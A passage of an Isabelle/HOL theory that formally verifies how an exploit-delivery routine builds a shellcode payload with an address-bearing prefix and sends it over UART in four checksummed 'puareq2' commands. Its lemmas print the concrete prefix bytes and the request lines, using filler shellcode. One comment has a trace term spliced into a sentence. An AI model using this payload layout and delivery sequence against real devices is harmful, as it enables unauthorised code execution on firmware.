  note e = puareq2_cmdlines_200 [OF assms(1)]
  let ?s1 = "s\<lparr>rx_script := ack_script (take j (delivery_requests p)) @ bad @ rest,
      trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True]\<rparr>"
  have "rx_script s = Some ''puareq1 0'' # Some ''OK 00000000'' #
      (ack_script (take j (delivery_requests p)) @ bad @ rest)"
    using assms(4) by (simp add: ack_script_def)
  from set_payload_primed [OF this]
  have sp: "set_payload p s = deliver_chunks (chunks 50 p) 0 ?s1" .
  have j: "j < length (chunks 50 p)" using assms(2) by (simp add: c(1))
  have u: "unacknowledged (puareq2_cmdlines 0 (chunks 50 p) ! j) bad"
    using assms(3) by (simp add: e)
  have r: "rx_script ?s1 = ack_script (take j (puareq2_cmdlines 0 (chunks 50 p))) @ bad @ rest"
    by (simp add: e)
  from deliver_chunks_unacknowledged [OF j u r] show ?thesis
    by (simp add: sp puareq2_writes_cmdlines e take_map)
qed

lemma set_payload_acknowledged:
  assumes "length p = 200"
    "rx_script s = ack_script (''puareq1 0'' # delivery_requests p) @ rest"
  shows "set_payload p s =
     (new_success [],
      s\<lparr>rx_script := rest,
        trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
          map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests p)\<rparr>)"
proof -
  note e = puareq2_cmdlines_200 [OF assms(1)]
  let ?s1 = "s\<lparr>rx_script := ack_script (delivery_requests p) @ rest,
      trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True]\<rparr>"
  have "rx_script s = Some ''puareq1 0'' # Some ''OK 00000000'' #
      (ack_script (delivery_requests p) @ rest)"
    using assms(2) by (simp add: ack_script_def)
  from set_payload_primed [OF this]
  have sp: "set_payload p s = deliver_chunks (chunks 50 p) 0 ?s1" .
  have "rx_script ?s1 = ack_script (puareq2_cmdlines 0 (chunks 50 p)) @ rest"
    by (simp add: e)
  from deliver_chunks_acked [OF this] show ?thesis
    by (simp add: sp puareq2_writes_cmdlines e)
qed

subsection \<open>The requests of an example payload\<close>

text \<open>
  The payload for the buffer address \<open>0x1762e8\<close> and a shellcode of 159 bytes \<open>0xbd\<close>:
  its four delivery requests and the bytes \<open>cmd_send\<close> writes for them.
\<close>

lemma buf2hex_append: "buf2hex (xs @ ys) = buf2hex xs @ buf2hex ys"
  by (simp add: buf2hex_def)

lemma buf2hex_replicate: "buf2hex (replicate n b) = concat (replicate n (buf2hex [b]))"
  by (induction n) (simp_all add: buf2hex_def)

lemma buf2hex_bytes:
  "buf2hex [0xbd] = ''BD''" "buf2hex [0] = ''00''"
  by (simp_all add: buf2hex_def format_0X_def hex_min.simps upper_digit_def)

lemma payload_prefix_example:
  "payload_prefix 0x1762e8 =
     [0x00, 0x63, 0x17, 0x00, 0x05, 0x63, 0x17, 0x00, 0x0f, 0, 0, 0,
      0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x41, 0, 0, 0]"
  by (simp add: payload_prefix_def le32_def offsetof_cmd_name_def offsetof_shellcode_def
      hax_cmd_name_def u8_of_char_def)

lemma buf2hex_prefix_example:
  "buf2hex (payload_prefix 0x1762e8) =
     ''00631700056317000F00000000000000000000000000000041000000''"
  unfolding payload_prefix_example
  by (simp add: buf2hex_def format_0X_def hex_min.simps upper_digit_def)

lemma delivery_requests_example:
  "delivery_requests (payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0) =
     [''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'', ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'', ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'', ''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000'']"
proof -
  have l: "length (payload_prefix 0x1762e8) = 28" by (simp add: length_payload_prefix)
  have c0: "take 50 (payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0) = payload_prefix 0x1762e8 @ replicate 22 0xbd"
    by (simp add: l)
  have c1: "take 50 (drop 50 (payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0)) = replicate 50 0xbd"
    by (simp add: l)
  have c2: "take 50 (drop 100 (payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0)) = replicate 50 0xbd"
    by (simp add: l)
  have c3: "take 50 (drop 150 (payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0)) = replicate 37 0xbd @ replicate 13 0"
    by (simp add: l)
  show ?thesis
    unfolding delivery_requests_def c0 c1 c2 c3
    by (simp add: buf2hex_append buf2hex_replicate buf2hex_bytes buf2hex_prefix_example)
      (simp add: eval_nat_numeral)
qed

lemma cmd_text_example:
  "cmd_text ''puareq1 0'' = ''puareq1 0:0F'' @ [CHR 0x0A]"
  "cmd_text ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'' = ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]"
  "cmd_text ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'' = ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]"
  "cmd_text ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'' = ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]"
  "cmd_text ''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000'' = ''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000:71'' @ [CHR 0x0A]"
  by (simp_all add: cmd_text_def checksum_def u8_of_char_def format_0X_def hex_min.simps
      upper_digit_def)


subsection \<open>The payload of 187 bytes\<close>

text \<open>
  Claim C7. For a shellcode of 159 bytes the crafted payload, 28 bytes of prefix and the
  shellcode, is 187 bytes long, within the cap of 350, and is padded with 13 zero bytes to
  200, which \<open>set_payload\<close> cuts into exactly 4 chunks of 50 bytes. After the [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] and the
  priming request \<open>puareq1 0\<close> the UART sees the first \<open>k \<le> 4\<close> of the four delivery
  requests \<open>puareq2 0 <hex of chunk 0>\<close> to \<open>puareq2 3 <hex of chunk 3>\<close>, in order, and
  nothing else: none when the priming request fails, all four when the result is success,
  at least one when the result is \<open>NG 0xdead0006\<close> (\<open>kSetPayloadPuareq2Failed\<close>). When the
  priming request and the first \<open>j < 4\<close> delivery requests are echoed and answered with
  success and request \<open>j\<close> is left unacknowledged, the result is \<open>NG 0xdead0006\<close> and request
  \<open>j\<close> is the last one sent; when all are acknowledged the result is success after exactly
  the four requests.
\<close>

theorem payload_187_four_chunks:
  "length (shellcode (fw_consts s)) = 159 \<longrightarrow>
     (\<exists>P. P = payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ shellcode (fw_consts s) @ replicate 13 0 \<and>
        length (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ shellcode (fw_consts s)) = 187 \<and>
        187 \<le> unat payload_max_len \<and>
        length P = 200 \<and>
        craft_and_set_payload s = Some (set_payload P s) \<and>
        chunks 50 P =
          [take 50 P, take 50 (drop 50 P), take 50 (drop 100 P), take 50 (drop 150 P)] \<and>
        list_all (\<lambda>c. length c = 50) (chunks 50 P) \<and>
        concat (chunks 50 P) = P \<and>
        (\<exists>k\<le>4.
           trace (snd (set_payload P s)) =
             trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
             map (\<lambda>c. UartWrite (cmd_text c) True) (take k (delivery_requests P)) \<and>
           (fst (set_payload P s) = \<lparr>rtype = kNg, rstatus = 0xdead0005, rresponse = []\<rparr> \<and> k = 0 \<or>
            fst (set_payload P s) = \<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr> \<and> 0 < k \<or>
            fst (set_payload P s) = \<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr> \<and> k = 4)) \<and>
        (\<forall>j<4. \<forall>bad rest.
           unacknowledged (delivery_requests P ! j) bad \<and>
           rx_script s =
             ack_script (''puareq1 0'' # take j (delivery_requests P)) @ bad @ rest \<longrightarrow>
           set_payload P s =
             (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True)
                    (take (Suc j) (delivery_requests P))\<rparr>)) \<and>
        (\<forall>rest.
           rx_script s = ack_script (''puareq1 0'' # delivery_requests P) @ rest \<longrightarrow>
           set_payload P s =
             (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests P)\<rparr>)))"
proof
  assume a: "length (shellcode (fw_consts s)) = 159"
  let ?P = "payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ shellcode (fw_consts s) @ replicate 13 0"
  have l: "length ?P = 200" using a by (simp add: length_payload_prefix)
  have l187: "length (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ shellcode (fw_consts s)) = 187"
    using a by (simp add: length_payload_prefix)
  have cap: "187 \<le> unat payload_max_len" by (simp add: payload_max_len_def)
  note c = chunks_200_props(2,3) [OF l] chunks_200 [OF l]
  have cr: "craft_and_set_payload s = Some (set_payload ?P s)"
    using craft_187 [OF a] by simp
  have r: "new_ng kSetPayloadPuareq1Failed [] = \<lparr>rtype = kNg, rstatus = 0xdead0005, rresponse = []\<rparr>"
    "new_ng kSetPayloadPuareq2Failed [] = \<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>"
    "new_success [] = \<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>"
    by (simp_all add: new_ng_def new_success_def new_ok_def kSetPayloadPuareq1Failed_def
        kSetPayloadPuareq2Failed_def kSuccess_def)
  note out = set_payload_outcome [OF l, of s, unfolded r]
  have un: "\<forall>j<4. \<forall>bad rest.
           unacknowledged (delivery_requests ?P ! j) bad \<and>
           rx_script s =
             ack_script (''puareq1 0'' # take j (delivery_requests ?P)) @ bad @ rest \<longrightarrow>
           set_payload ?P s =
             (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True)
                    (take (Suc j) (delivery_requests ?P))\<rparr>)"
    using set_payload_unacknowledged [OF l, of _ _ s, unfolded r] by blast
  have ak: "\<forall>rest.
           rx_script s = ack_script (''puareq1 0'' # delivery_requests ?P) @ rest \<longrightarrow>
           set_payload ?P s =
             (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests ?P)\<rparr>)"
    using set_payload_acknowledged [OF l, of s, unfolded r] by blast
  show "\<exists>P. P = ?P \<and>
        length (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ shellcode (fw_consts s)) = 187 \<and>
        187 \<le> unat payload_max_len \<and>
        length P = 200 \<and>
        craft_and_set_payload s = Some (set_payload P s) \<and>
        chunks 50 P =
          [take 50 P, take 50 (drop 50 P), take 50 (drop 100 P), take 50 (drop 150 P)] \<and>
        list_all (\<lambda>c. length c = 50) (chunks 50 P) \<and>
        concat (chunks 50 P) = P \<and>
        (\<exists>k\<le>4.
           trace (snd (set_payload P s)) =
             trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
             map (\<lambda>c. UartWrite (cmd_text c) True) (take k (delivery_requests P)) \<and>
           (fst (set_payload P s) = \<lparr>rtype = kNg, rstatus = 0xdead0005, rresponse = []\<rparr> \<and> k = 0 \<or>
            fst (set_payload P s) = \<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr> \<and> 0 < k \<or>
            fst (set_payload P s) = \<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr> \<and> k = 4)) \<and>
        (\<forall>j<4. \<forall>bad rest.
           unacknowledged (delivery_requests P ! j) bad \<and>
           rx_script s =
             ack_script (''puareq1 0'' # take j (delivery_requests P)) @ bad @ rest \<longrightarrow>
           set_payload P s =
             (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True)
                    (take (Suc j) (delivery_requests P))\<rparr>)) \<and>
        (\<forall>rest.
           rx_script s = ack_script (''puareq1 0'' # delivery_requests P) @ rest \<longrightarrow>
           set_payload P s =
             (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>,
              s\<lparr>rx_script := rest,
                trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests P)\<rparr>))"
    using l l187 cap cr c out un ak
    by (intro exI [of _ ?P] conjI) (simp_all only: refl)
qed

theorem payload_187_four_chunks_witness:
  "(\<exists>s'. craft_and_set_payload
       (emc_resolved
         [Some ''puareq1 0'',
          Some ''OK 00000000'',
          Some ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''NG E0000004'',
          Some ''OK 00000000'']
         \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 159 0xbd\<rparr>) =
       Some (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>, s') \<and>
     rx_script s' = [Some ''OK 00000000''] \<and>
     trace s' =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True]) \<and>
   (\<exists>s'. craft_and_set_payload
       (emc_resolved
         [Some ''puareq1 0'',
          Some ''OK 00000000'',
          Some ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000'',
          Some ''OK 00000000'']
         \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 159 0xbd\<rparr>) =
       Some (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>, s') \<and>
     rx_script s' = [] \<and>
     trace s' =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000:71'' @ [CHR 0x0A]) True])"
proof -
  let ?P = "payload_prefix 0x1762e8 @ replicate 159 0xbd @ replicate 13 0"
  let ?fw = "\<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = replicate 159 0xbd\<rparr>"
  let ?A = "emc_resolved
         [Some ''puareq1 0'',
          Some ''OK 00000000'',
          Some ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''NG E0000004'',
          Some ''OK 00000000'']
         ?fw"
  let ?B = "emc_resolved
         [Some ''puareq1 0'',
          Some ''OK 00000000'',
          Some ''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'',
          Some ''OK 00000000'',
          Some ''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000'',
          Some ''OK 00000000'']
         ?fw"
  have fw: "fw_consts (emc_resolved sc f) = f" "trace (emc_resolved sc f) = []"
    "rx_script (emc_resolved sc f) = sc" for sc f
    by (simp_all add: emc_resolved_def emc_init_def)
  note dr = delivery_requests_example
  have ng: "from_str ''NG E0000004'' =
      \<lparr>rtype = kNg, rstatus = of_nat (hex_value ''E0000004''), rresponse = []\<rparr>"
    using from_str_status_only [of "''NG ''" "''E0000004''"] by (simp add: is_hex_digit_def hex_digit_val_def)
  have hA: "length (shellcode (fw_consts ?A)) = 159" by (simp add: fw)
  from payload_187_four_chunks [of ?A, THEN mp, OF hA]
  obtain Q where q: "Q = payload_prefix (ucmd_ua_buf_addr (fw_consts ?A)) @
        shellcode (fw_consts ?A) @ replicate 13 0"
    and crQ: "craft_and_set_payload ?A = Some (set_payload Q ?A)"
    and unQ: "\<forall>j<4. \<forall>bad rest.
           unacknowledged (delivery_requests Q ! j) bad \<and>
           rx_script ?A =
             ack_script (''puareq1 0'' # take j (delivery_requests Q)) @ bad @ rest \<longrightarrow>
           set_payload Q ?A =
             (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>,
              ?A\<lparr>rx_script := rest,
                trace := trace ?A @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True)
                    (take (Suc j) (delivery_requests Q))\<rparr>)"
    by (elim exE conjE)
  have Q: "Q = ?P" unfolding q by (simp add: fw)
  note crA = crQ [unfolded Q] and un = unQ [unfolded Q]
  have uA: "unacknowledged (delivery_requests ?P ! 2)
      [Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'', Some ''NG E0000004'']"
    by (simp add: dr ng is_ok_or_ng_def is_ng_def is_ok_def is_success_def is_ok_status_def)
  have rA: "rx_script ?A =
      ack_script (''puareq1 0'' # take 2 (delivery_requests ?P)) @
      [Some ''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD'', Some ''NG E0000004''] @ [Some ''OK 00000000'']"
    by (simp add: fw dr ack_script_def)
  from un [rule_format, of 2, OF _ conjI, OF _ uA rA]
  have spA: "set_payload ?P ?A =
      (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>,
       ?A\<lparr>rx_script := [Some ''OK 00000000''],
         trace := trace ?A @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
           map (\<lambda>c. UartWrite (cmd_text c) True) (take (Suc 2) (delivery_requests ?P))\<rparr>)"
    by simp
  have tA: "trace ?A @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
      map (\<lambda>c. UartWrite (cmd_text c) True) (take (Suc 2) (delivery_requests ?P)) =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True]"
    by (simp add: fw dr cmd_text_example)
  have A: "\<exists>s'. craft_and_set_payload ?A =
       Some (\<lparr>rtype = kNg, rstatus = 0xdead0006, rresponse = []\<rparr>, s') \<and>
     rx_script s' = [Some ''OK 00000000''] \<and>
     trace s' =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True]"
    unfolding crA spA tA by simp
  have hB: "length (shellcode (fw_consts ?B)) = 159" by (simp add: fw)
  from payload_187_four_chunks [of ?B, THEN mp, OF hB]
  obtain R where r: "R = payload_prefix (ucmd_ua_buf_addr (fw_consts ?B)) @
        shellcode (fw_consts ?B) @ replicate 13 0"
    and crR: "craft_and_set_payload ?B = Some (set_payload R ?B)"
    and akR: "\<forall>rest.
           rx_script ?B = ack_script (''puareq1 0'' # delivery_requests R) @ rest \<longrightarrow>
           set_payload R ?B =
             (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>,
              ?B\<lparr>rx_script := rest,
                trace := trace ?B @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
                  map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests R)\<rparr>)"
    by (elim exE conjE)
  have R: "R = ?P" unfolding r by (simp add: fw)
  note crB = crR [unfolded R] and ak = akR [unfolded R]
  have rB: "rx_script ?B = ack_script (''puareq1 0'' # delivery_requests ?P) @ []"
    by (simp add: fw dr ack_script_def)
  from ak [rule_format, OF rB]
  have spB: "set_payload ?P ?B =
      (\<lparr>rtype = kOk, rstatus = 0, rresponse = []\<rparr>,
       ?B\<lparr>rx_script := [],
         trace := trace ?B @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
           map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests ?P)\<rparr>)" .
  have tB: "trace ?B @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
      map (\<lambda>c. UartWrite (cmd_text c) True) (delivery_requests ?P) =
         [UartWrite [CHR 0x15] True,
          BusyWaitMs 10,
          UartWrite (''puareq1 0:0F'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 0 00631700056317000F00000000000000000000000000000041000000BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:76'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 1 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5D'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 2 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD:5E'' @ [CHR 0x0A]) True,
          UartWrite (''puareq2 3 BDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBDBD00000000000000000000000000:71'' @ [CHR 0x0A]) True]"
    by (simp add: fw dr cmd_text_example)
